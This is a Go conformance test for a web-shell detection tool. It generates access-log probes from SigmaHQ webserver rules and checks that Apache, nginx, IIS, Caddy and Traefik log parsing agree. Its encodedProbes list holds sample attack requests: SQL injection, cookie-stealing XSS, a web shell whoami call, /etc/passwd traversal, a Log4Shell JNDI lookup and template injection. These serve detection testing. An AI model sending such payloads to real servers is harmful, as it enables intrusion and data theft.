package conformance

import (
	"cmp"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"regexp/syntax"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"webshellbeat/detection/engine"
	"webshellbeat/detection/sigma"
	"webshellbeat/module/accesslog"
)

// webSamples are the access logs of the shared data that the reference
// compares SigmaHQ's webserver rules on: Apache's and nginx's combined
// format (a honeypot's 3,456 requests, CrowdSec's probing and backdoor
// tests, the web shell capture, filebeat's tests) and IIS's W3C format.
var webSamples = []string{
	"seed/apache_access.log",
	"linux-capture/apache_access.log",
	"linux-capture/nginx_access.log",
	"nielsbasjes-logparser/examples/demolog/hackers-access.log",
	"crowdsecurity-hub/.tests/apache-http-probing/apache-http-probing.log",
	"crowdsecurity-hub/.tests/apache2-http-sensitive-files/apache2-http-sensitive-files.log",
	"crowdsecurity-hub/.tests/apache2-logs/apache2-logs.log",
	"crowdsecurity-hub/.tests/nginx_http-logs/nginx_http-logs.log",
	"crowdsecurity-hub/.tests/nginx-http-backdoor/nginx-http-backdoor.log",
	"elastic-beats/filebeat/module/apache/access/test/test.log",
	"elastic-beats/filebeat/module/nginx/access/test/test.log",
	"elastic-beats/filebeat/module/iis/access/test/test.log",
}

func (ev refEvent) web() bool { return strings.HasPrefix(ev.key, "web/") }

// webReferenceSamples reads the shared access logs, then the probes that
// webProbes builds from SigmaHQ's webserver rules, written once as Apache
// writes them and once as IIS does. Each line is read twice: by
// module/accesslog, as the beat reads it, and by combinedRow or w3cRow, the
// reference's own reading. A line that the reference cannot read is left
// out; one that only the reference reads fails the test.
func webReferenceSamples(t *testing.T, data string) []refEvent {
	t.Helper()
	var out []refEvent
	for _, name := range webSamples {
		raw, err := os.ReadFile(data + name)
		if err != nil {
			t.Fatal(err)
		}
		out = appendWebEvents(t, out, "web/"+name, strings.Split(string(raw), "\n"))
	}
	combined, iis := webProbes(t)
	out = appendWebEvents(t, out, "web/probes/combined.log", combined)
	out = appendWebEvents(t, out, "web/probes/iis.log", iis)
	out = appendWebEvents(t, out, "web/probes/encoded.log", encodedProbes)
	return appendWebEvents(t, out, "web/probes/iis_extended.log", extendedProbes(t))
}

// encodedProbes are attacks as clients send them, encoded ('+' for a
// space, %XX), where SigmaHQ's rules mostly give the text decoded or with
// %20: what the beat's decoded query parameters change (referenceDiffs).
var encodedProbes = []string{
	`203.0.113.8 - - [28/Nov/2026:01:00:00 +0000] "GET /item.php?id=1+UNION+SELECT+password+FROM+users HTTP/1.1" 200 512 "-" "sqlmap/1.7"`,
	`203.0.113.8 - - [28/Nov/2026:01:00:01 +0000] "GET /search.php?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
	`203.0.113.8 - - [28/Nov/2026:01:00:02 +0000] "GET /uploads/cmd.aspx?c=who%61mi HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
	`203.0.113.8 - - [28/Nov/2026:01:00:03 +0000] "GET /index.php?page=..%2F..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
	`203.0.113.8 - - [28/Nov/2026:01:00:04 +0000] "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fa%7D HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
	`203.0.113.8 - - [28/Nov/2026:01:00:05 +0000] "GET /page.jsp?name=%7B%7B7*7%7D%7D HTTP/1.1" 200 512 "-" "Mozilla/5.0"`,
}

// appendWebEvents appends the events of one log's lines, keyed by line
// number. A file whose first line is a W3C directive is read as IIS's.
func appendWebEvents(t *testing.T, out []refEvent, key string, lines []string) []refEvent {
	t.Helper()
	w3c := len(lines) > 0 && strings.HasPrefix(lines[0], "#")
	parser := accesslog.NewW3C()
	var fields []string
	for i, line := range lines {
		line = strings.TrimRight(line, "\r")
		if line == "" {
			continue
		}
		var doc map[string]any
		var row map[string]string
		if w3c {
			if f, ok := strings.CutPrefix(line, "#Fields:"); ok {
				fields = strings.Fields(f)
			}
			doc, _ = parser.Parse(line)
			row = w3cRow(fields, line)
		} else {
			doc, _ = accesslog.ParseCombined(line)
			row = combinedRow(line)
		}
		if row != nil && doc == nil {
			t.Errorf("%s:%d: module/accesslog does not read the line: %s", key, i+1, line)
		}
		if doc == nil || row == nil {
			continue
		}
		out = append(out, refEvent{key: key + "#" + strconv.Itoa(i+1), rows: []map[string]string{row}, ecs: doc})
	}
	return out
}

// combinedLine is the reference's reading of the combined and common
// formats: client, identity, user, time, request line, status, size, then
// referrer and user agent when present (nginx's X-Forwarded-For list in
// front is left to the client field's \S+, so those lines are left out).
var combinedLine = regexp.MustCompile(`^(\S+) \S+ (\S+) \[[^\]]+\] "(\S+) (\S+)(?: (\S+))?" (\d{3}) (\S+)(?: "((?:[^"\\]|\\.)*)" "((?:[^"\\]|\\.)*)")?`)

// combinedRow is one Apache or nginx access line as a tool that reads the
// log with the Sigma taxonomy's W3C names sees it: the request target split
// at its first '?' into cs-uri-stem and cs-uri-query, "-" as no value, and
// nothing decoded. _target is the whole target, the other reading of
// cs-uri-query (see reference/verdicts.py), and _ua_decoded the user agent
// as IIS's is read with its '+' as spaces (here the same).
func combinedRow(line string) map[string]string {
	m := combinedLine.FindStringSubmatch(line)
	if m == nil {
		return nil
	}
	row := map[string]string{"_log": "web", "c-ip": m[1], "cs-method": m[3], "_target": m[4], "sc-status": m[6]}
	stem, query, _ := strings.Cut(m[4], "?")
	row["cs-uri-stem"] = stem
	set := func(k, v string) {
		if v != "" && v != "-" {
			row[k] = v
		}
	}
	set("cs-uri-query", query)
	set("cs-username", m[2])
	set("cs-version", m[5])
	set("sc-bytes", m[7])
	set("cs-referer", strings.ReplaceAll(m[8], `\"`, `"`))
	set("cs-user-agent", strings.ReplaceAll(m[9], `\"`, `"`))
	set("_ua_decoded", row["cs-user-agent"])
	return row
}

// iisDefaultFields is the field list of IIS's default W3C layout, which
// the probes' IIS log declares too (iisFields).
var iisDefaultFields = strings.Fields(strings.TrimPrefix(iisFields, "#Fields:"))

// w3cRow is one IIS line under its #Fields header, each field by its W3C
// name as IIS writes it (cs(User-Agent) as the taxonomy's cs-user-agent),
// "-" as no value, nothing decoded; _target and _ua_decoded as for
// combinedRow, the user agent's '+' read as spaces. A line with as many
// fields as IIS's default layout, and not as the header, is read in that
// layout (filebeat's IIS test file ends with two such lines, after a
// header of 20 fields).
func w3cRow(fields []string, line string) map[string]string {
	vals := strings.Split(line, " ")
	if len(vals) != len(fields) && len(vals) == len(iisDefaultFields) {
		fields = iisDefaultFields
	}
	if strings.HasPrefix(line, "#") || len(vals) != len(fields) {
		return nil
	}
	names := map[string]string{"cs(User-Agent)": "cs-user-agent", "cs(Referer)": "cs-referer", "cs(Cookie)": "cs-cookie", "cs(Host)": "cs-host",
		"cs(Content-Type)": "cs-content-type"}
	row := map[string]string{"_log": "web"}
	for i, f := range fields {
		if name, ok := names[f]; ok {
			f = name
		}
		if vals[i] != "-" {
			row[f] = vals[i]
		}
	}
	row["_target"] = row["cs-uri-stem"]
	if q := row["cs-uri-query"]; q != "" {
		row["_target"] += "?" + q
	}
	if ua := row["cs-user-agent"]; ua != "" {
		row["_ua_decoded"] = strings.ReplaceAll(ua, "+", " ")
	}
	return row
}

// webRequest is a probe: one request, as the access logs write it.
type webRequest struct {
	method, user, ua, referer   string
	host, contentType           string
	status                      int
	pathHead, pathMid, pathTail []string
	query                       []string
}

// webProbes builds, from every webserver rule of SigmaHQ's folders, the
// requests that its searches describe, and writes each as an Apache
// combined line and as an IIS W3C line. The shared logs hold few attacks
// that SigmaHQ's web rules name; the probes give every rule requests close
// to its own, and every other rule the same requests, so that the
// comparison sees matches and near misses of each. A probe is made from
// each search that the condition does not negate (its first alternative),
// and one from all of them together; values are taken as written,
// wildcards left out.
func webProbes(t *testing.T) (combined, iis []string) {
	t.Helper()
	combined = []string{}
	iis = []string{"#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0", iisFields}
	for i, q := range webProbeRequests(t) {
		at := probeTime(i)
		combined = append(combined, q.combined(at))
		iis = append(iis, q.w3c(at, iisFields))
	}
	return combined, iis
}

// iisFields is the #Fields header of the probes' IIS log (w3c writes its
// lines): IIS's default layout.
const iisFields = "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"

// probeTime is the time of the ith probe: a second apart.
func probeTime(i int) time.Time {
	return time.Date(2026, 11, 28, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Second)
}

// webProbeRequests are the probes' requests (see webProbes), each once.
func webProbeRequests(t *testing.T) []webRequest {
	t.Helper()
	reqs := distinct(ruleRequests(), func(q webRequest) string { return q.combined(time.Time{}) })
	if len(reqs) < 100 {
		t.Fatalf("%d probes from SigmaHQ's webserver rules, want over 100", len(reqs))
	}
	return reqs
}

// ruleRequests are the requests of every webserver rule (ruleProbes),
// repeats included, built once per test binary: in the order of the rules'
// files' paths, whatever folder they are in, so that a probe's line number
// (its key in the held verdicts) stays.
func ruleRequests() []webRequest {
	if builtRequests == nil {
		rules := slices.Clone(referenceRules().Rules)
		slices.SortStableFunc(rules, func(a, b *sigma.Rule) int { return strings.Compare(a.Path, b.Path) })
		for _, r := range rules {
			if r.Logsource.Category == "webserver" {
				builtRequests = append(builtRequests, ruleProbes(r)...)
			}
		}
	}
	return builtRequests
}

var builtRequests []webRequest

// distinct is reqs less those whose line (as line writes it) an earlier
// one already gave.
func distinct(reqs []webRequest, line func(webRequest) string) []webRequest {
	var out []webRequest
	seen := map[string]bool{}
	for _, q := range reqs {
		if l := line(q); !seen[l] {
			seen[l] = true
			out = append(out, q)
		}
	}
	return out
}

// extendedProbes is the IIS log, with the Host and Content-Type fields
// (extendedFields), of every probe request given what the other probes
// leave out: a referrer, a query and a host where the rule names none.
// Rules that test those fields for null (cs-referer: null, cs-uri-query:
// null) meet their other branch here, and the host and content type that
// two rules ask for are written.
func extendedProbes(t *testing.T) []string {
	t.Helper()
	lines := []string{"#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0", extendedFields}
	for i, q := range extendedRequests() {
		lines = append(lines, q.w3c(probeTime(i), extendedFields))
	}
	return lines
}

// extendedRequests are the requests of extendedProbes.
func extendedRequests() []webRequest {
	rules := ruleRequests()
	reqs := make([]webRequest, len(rules))
	for i, q := range rules {
		reqs[i] = q.decorated()
	}
	return distinct(reqs, func(q webRequest) string { return q.w3c(time.Time{}, extendedFields) })
}

// extendedFields is IIS's default layout with its Host field and its custom
// field for the Content-Type request header.
const extendedFields = "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) cs-host cs(Content-Type) sc-status sc-substatus sc-win32-status time-taken"

// decorated is q with a referrer, a query and a host where it has none.
func (q webRequest) decorated() webRequest {
	if q.referer == "" {
		q.referer = "https://www.example.com/start"
	}
	if len(q.query) == 0 {
		q.query = []string{"page=1"}
	}
	if q.host == "" {
		q.host = "www.example.com"
	}
	return q
}

// ruleProbes are the requests that rule r's searches describe.
func ruleProbes(r *sigma.Rule) []webRequest {
	var reqs []webRequest
	all := webRequest{}
	negated := negatedSearches(r)
	for _, name := range r.Detection.Names {
		s := r.Detection.Searches[name]
		if negated[name] || len(s.Alternatives) == 0 {
			continue
		}
		alt := s.Alternatives[0]
		for _, fm := range alt {
			all.add(fm)
		}
		reqs = append(reqs, probe(alt, nil, 0))
		for _, fm := range alt {
			if isAgent(fm.Field) && !fm.Has(sigma.ModAll) {
				for i := range fm.Values[1:] {
					reqs = append(reqs, probe(alt, fm, i+1))
				}
			}
		}
	}
	return append(reqs, all)
}

// negatedSearches are the searches that r's conditions name under a not:
// a probe leaves them out.
func negatedSearches(r *sigma.Rule) map[string]bool {
	out := map[string]bool{}
	var walk func(n sigma.CondNode, neg bool)
	walk = func(n sigma.CondNode, neg bool) {
		switch x := n.(type) {
		case *sigma.CondAnd:
			for _, t := range x.Terms {
				walk(t, neg)
			}
		case *sigma.CondOr:
			for _, t := range x.Terms {
				walk(t, neg)
			}
		case *sigma.CondNot:
			walk(x.X, !neg)
		case *sigma.CondIdent:
			out[x.Name] = out[x.Name] || neg
		case *sigma.CondOf:
			for _, name := range x.Expand(r.Detection.Names) {
				out[name] = out[name] || neg
			}
		}
	}
	for _, c := range r.Detection.Conditions {
		walk(c.Expr, false)
	}
	return out
}

// probe is the request that the field matches of alt describe, with
// value i of match pick instead of its first. User agents are given a probe
// for each value, since rules list them for two ways of writing them (as
// sent and as IIS logs them).
func probe(alt []*sigma.FieldMatch, pick *sigma.FieldMatch, i int) webRequest {
	q := webRequest{}
	for _, fm := range alt {
		if fm == pick {
			q.addValue(fm, literal(fm.Values[i].Str))
			continue
		}
		q.add(fm)
	}
	return q
}

func isAgent(field string) bool { return field == "cs-user-agent" || field == "c-useragent" }

// add puts what field match fm asks for into the request: its first value
// with no space (else its first; every value with all), wildcards left
// out, a regexp's first value by a text it matches (regexpExample);
// matches on encodings or fields that access logs do not have are left
// out.
func (q *webRequest) add(fm *sigma.FieldMatch) {
	for _, m := range fm.Modifiers {
		if m == sigma.ModCIDR || m.IsEncoding() || m == sigma.ModFieldRef || m == sigma.ModExists {
			return
		}
	}
	if fm.Has(sigma.ModRe) {
		if len(fm.Values) > 0 {
			if s, ok := regexpExample(fm.Values[0].Str); ok {
				q.addValue(fm, s)
			}
		}
		return
	}
	vals := fm.Values
	if !fm.Has(sigma.ModAll) && len(vals) > 1 {
		// A request target holds no space: take the first value without
		// one when there is one.
		i := slices.IndexFunc(vals, func(v sigma.Value) bool { return !strings.Contains(v.Str, " ") })
		vals = vals[max(i, 0):][:1]
	}
	for _, v := range vals {
		if v.Kind != sigma.ValueString && v.Kind != sigma.ValueNumber {
			continue
		}
		q.addValue(fm, literal(v.Str))
	}
}

func (q *webRequest) addValue(fm *sigma.FieldMatch, s string) {
	placed := func(list *[]string) {
		*list = append(*list, s)
	}
	switch fm.Field {
	case "cs-method":
		q.method = s
	case "sc-status":
		q.status, _ = strconv.Atoi(s)
	case "cs-username":
		q.user = s
	case "cs-user-agent", "c-useragent": // isAgent
		q.ua = around(fm, q.ua, s)
	case "cs-referer":
		q.referer = around(fm, q.referer, s)
	case "cs-host":
		q.host = around(fm, q.host, s)
	case "cs-content-type":
		q.contentType = s
	case "cs-uri-stem", "c-uri-stem", "cs-uri-query", "c-uri-query", "c-uri", "":
		switch {
		case fm.Field == "" && strings.Contains(s, " "):
			q.ua = around(fm, q.ua, s)
		case fm.Field == "cs-uri-query" || fm.Field == "c-uri-query" || fm.Field == "":
			if !strings.HasPrefix(s, "/") {
				placed(&q.query)
				return
			}
			fallthrough
		default:
			switch {
			case fm.Has(sigma.ModStartsWith):
				placed(&q.pathHead)
			case fm.Has(sigma.ModEndsWith):
				placed(&q.pathTail)
			default:
				placed(&q.pathMid)
			}
		}
	}
}

// around places s in a header value as the match's modifier asks.
func around(fm *sigma.FieldMatch, cur, s string) string {
	switch {
	case fm.Has(sigma.ModStartsWith):
		return s + cur
	case fm.Has(sigma.ModEndsWith) || cur == "":
		return cur + s
	}
	return cur + " " + s
}

// literal is a text that Sigma value s matches: its literal parts, a '?'
// for each ? wildcard (in SigmaHQ's web rules, most are a URL's '?' left
// unescaped) and nothing for each *.
func literal(s string) string {
	var b strings.Builder
	for _, p := range sigma.ParsePattern(s) {
		switch p.Kind {
		case sigma.PieceLit:
			b.WriteString(p.Lit)
		case sigma.PieceOne:
			b.WriteByte('?')
		}
	}
	return b.String()
}

// target is the request target: the path parts, then the query parts
// after a '?' (or an '&' when a path part brought its own '?').
func (q webRequest) target() string {
	t := strings.Join(q.pathHead, "") + strings.Join(q.pathMid, "") + strings.Join(q.pathTail, "")
	if !strings.HasPrefix(t, "/") {
		t = "/" + t
	}
	if len(q.query) > 0 {
		sep := "?"
		if strings.Contains(t, "?") {
			sep = "&"
		}
		t += sep + strings.Join(q.query, "&")
	}
	if strings.HasSuffix(t, "?") { // IIS could not log an empty query
		t += "a=1"
	}
	return strings.NewReplacer(" ", "%20", `"`, "%22").Replace(t)
}

func (q webRequest) defaults() webRequest {
	if q.method == "" {
		q.method = "GET"
	}
	if q.status == 0 {
		q.status = 200
	}
	return q
}

func (q webRequest) combined(at time.Time) string {
	q = q.defaults()
	quoted := func(s string) string {
		if s == "" {
			return `"-"`
		}
		return `"` + strings.ReplaceAll(s, `"`, `\"`) + `"`
	}
	user := q.user
	if user == "" {
		user = "-"
	}
	return fmt.Sprintf(`203.0.113.7 - %s [%s] "%s %s HTTP/1.1" %d 512 %s %s`, strings.ReplaceAll(user, " ", "_"),
		at.Format("02/Jan/2006:15:04:05 -0700"), q.method, q.target(), q.status, quoted(q.referer), quoted(q.ua))
}

// w3c writes the request as IIS does in the layout of a #Fields header
// (iisFields or extendedFields), so that the line cannot disagree with its
// header: spaces in headers as '+', "-" for no value.
func (q webRequest) w3c(at time.Time, fields string) string {
	q = q.defaults()
	path, query, _ := strings.Cut(q.target(), "?")
	vals := map[string]string{"date": at.Format("2006-01-02"), "time": at.Format("15:04:05"), "s-ip": "192.0.2.10",
		"cs-method": q.method, "cs-uri-stem": path, "cs-uri-query": w3cValue(query), "s-port": "443",
		"cs-username": w3cValue(q.user), "c-ip": "203.0.113.7", "cs(User-Agent)": w3cValue(q.ua),
		"cs(Referer)": w3cValue(q.referer), "cs-host": w3cValue(q.host), "cs(Content-Type)": w3cValue(q.contentType),
		"sc-status": strconv.Itoa(q.status), "sc-substatus": "0", "sc-win32-status": "0", "time-taken": "15"}
	names := strings.Fields(strings.TrimPrefix(fields, "#Fields:"))
	out := make([]string, len(names))
	for i, name := range names {
		out[i] = vals[name]
	}
	return strings.Join(out, " ")
}

// w3cValue is s as IIS writes a field: spaces as '+', "-" for no value.
func w3cValue(s string) string {
	if s == "" {
		return "-"
	}
	return strings.ReplaceAll(s, " ", "+")
}

// regexpExample is a text that regular expression expr matches, when expr
// is simple enough to write one for (literals, classes, any character,
// alternations by their first branch, repeats by their least count).
func regexpExample(expr string) (string, bool) {
	re, err := syntax.Parse(expr, syntax.Perl)
	if err != nil {
		return "", false
	}
	var b strings.Builder
	ok := writeExample(&b, re.Simplify())
	return b.String(), ok && b.Len() > 0
}

func writeExample(b *strings.Builder, re *syntax.Regexp) bool {
	switch re.Op {
	case syntax.OpLiteral:
		for _, r := range re.Rune {
			b.WriteRune(r)
		}
	case syntax.OpAnyChar, syntax.OpAnyCharNotNL:
		b.WriteByte('a')
	case syntax.OpCharClass:
		if len(re.Rune) == 0 {
			return false
		}
		b.WriteRune(max(re.Rune[0], min('a', re.Rune[1]))) // a printable one when the first range has one
	case syntax.OpConcat:
		for _, sub := range re.Sub {
			if !writeExample(b, sub) {
				return false
			}
		}
	case syntax.OpAlternate, syntax.OpCapture, syntax.OpPlus:
		return writeExample(b, re.Sub[0])
	case syntax.OpStar, syntax.OpQuest, syntax.OpEmptyMatch, syntax.OpBeginLine, syntax.OpEndLine,
		syntax.OpBeginText, syntax.OpEndText:
	default:
		return false
	}
	return true
}

// TestWebFormatsAgree: every probe request, written as Apache's combined
// line and as the JSON access logs that module/accesslog reads (nginx's
// log_format json, Caddy's and Traefik's own layouts), gets the same
// verdict from each SigmaHQ webserver rule: the JSON readers give a rule
// the same fields as the combined one. The extended probes, which carry a
// host and a content type that the combined format cannot, are held to
// their IIS line instead.
func TestWebFormatsAgree(t *testing.T) {
	eng, err := engine.New(referenceRules(), engine.Options{})
	if err != nil {
		t.Fatal(err)
	}
	verdict := func(doc map[string]any) []string {
		var out []string
		for _, r := range eng.Match(doc) {
			if r.Logsource.Category == "webserver" {
				out = append(out, filepath.Base(r.Path))
			}
		}
		slices.Sort(out)
		return out
	}
	// agree checks q's JSON lines against want, the verdict on line.
	agree := func(q webRequest, at time.Time, line string, want []string) {
		formats := map[string]func(webRequest, time.Time) string{"nginx": webRequest.nginxJSON, "caddy": webRequest.caddyJSON, "traefik": webRequest.traefikJSON}
		for name, write := range formats {
			js := write(q, at)
			doc, err := accesslog.ParseJSON(js)
			if err != nil {
				t.Errorf("%s: %s: %v", name, js, err)
				continue
			}
			if got := verdict(doc); !slices.Equal(got, want) {
				t.Errorf("%s: %s: rules %q, from %q (%s)", name, js, got, want, line)
			}
		}
	}
	iisLine := func(header, line string) []string {
		iis := accesslog.NewW3C()
		if _, err := iis.Parse(header); err != nil {
			t.Fatal(err)
		}
		doc, err := iis.Parse(line)
		if err != nil {
			t.Errorf("iis: %s: %v", line, err)
		}
		return verdict(doc)
	}
	matched := 0
	for i, q := range webProbeRequests(t) {
		q.host, q.contentType = "", "" // what the combined line cannot carry
		at := probeTime(i)
		line := q.combined(at)
		doc, err := accesslog.ParseCombined(line)
		if err != nil {
			t.Fatalf("%s: %v", line, err)
		}
		want := verdict(doc)
		matched += len(want)
		w3c := q.w3c(at, iisFields)
		if got := iisLine(iisFields, w3c); !slices.Equal(got, want) {
			t.Errorf("iis: %s: rules %q, from the combined line %q (%s)", w3c, got, want, line)
		}
		agree(q, at, line, want)
	}
	if matched < 150 {
		t.Errorf("%d matches on the combined probes, want over 150: the probes no longer reach the rules", matched)
	}
	matched = 0
	for i, q := range extendedRequests() {
		at := probeTime(i)
		line := q.w3c(at, extendedFields)
		want := iisLine(extendedFields, line)
		matched += len(want)
		agree(q, at, line, want)
	}
	if matched < 150 {
		t.Errorf("%d matches on the extended probes, want over 150", matched)
	}
}

// nginxJSON writes the request as nginx's log_format json with escape=json
// (the example of module/accesslog), which writes an empty variable as "".
func (q webRequest) nginxJSON(at time.Time) string {
	q = q.defaults()
	return jsonLine(map[string]any{"time_local": at.Format("02/Jan/2006:15:04:05 -0700"), "remote_addr": "203.0.113.7",
		"remote_user": q.user, "request": q.method + " " + q.target() + " HTTP/1.1", "status": q.status,
		"body_bytes_sent": 512, "http_referer": q.referer, "http_user_agent": q.ua, "host": q.host, "content_type": q.contentType})
}

// caddyJSON writes the request as Caddy's access log does: headers as
// lists, under request.
func (q webRequest) caddyJSON(at time.Time) string {
	q = q.defaults()
	headers := map[string]any{}
	if q.ua != "" {
		headers["User-Agent"] = []string{q.ua}
	}
	if q.referer != "" {
		headers["Referer"] = []string{q.referer}
	}
	if q.contentType != "" {
		headers["Content-Type"] = []string{q.contentType}
	}
	doc := map[string]any{"level": "info", "ts": float64(at.Unix()), "logger": "http.log.access", "msg": "handled request",
		"request": map[string]any{"remote_ip": "203.0.113.7", "client_ip": "203.0.113.7", "proto": "HTTP/1.1", "method": q.method,
			"host": cmp.Or(q.host, "www.example.com"), "uri": q.target(), "headers": headers},
		"status": q.status, "size": 512}
	if q.user != "" {
		doc["user_id"] = q.user
	}
	return jsonLine(doc)
}

// traefikJSON writes the request as Traefik's access log does (format
// json, with the request headers kept).
func (q webRequest) traefikJSON(at time.Time) string {
	q = q.defaults()
	doc := map[string]any{"StartUTC": at.Format(time.RFC3339Nano), "ClientHost": "203.0.113.7", "ClientUsername": "-",
		"RequestMethod": q.method, "RequestPath": q.target(), "RequestProtocol": "HTTP/1.1", "DownstreamStatus": q.status,
		"DownstreamContentSize": 512}
	if q.user != "" {
		doc["ClientUsername"] = q.user
	}
	if q.ua != "" {
		doc["request_User-Agent"] = q.ua
	}
	if q.referer != "" {
		doc["request_Referer"] = q.referer
	}
	if q.host != "" {
		doc["RequestHost"] = q.host
	}
	if q.contentType != "" {
		doc["request_Content-Type"] = q.contentType
	}
	return jsonLine(doc)
}

func jsonLine(doc map[string]any) string {
	b, err := json.Marshal(doc)
	if err != nil {
		panic(err)
	}
	return string(b)
}
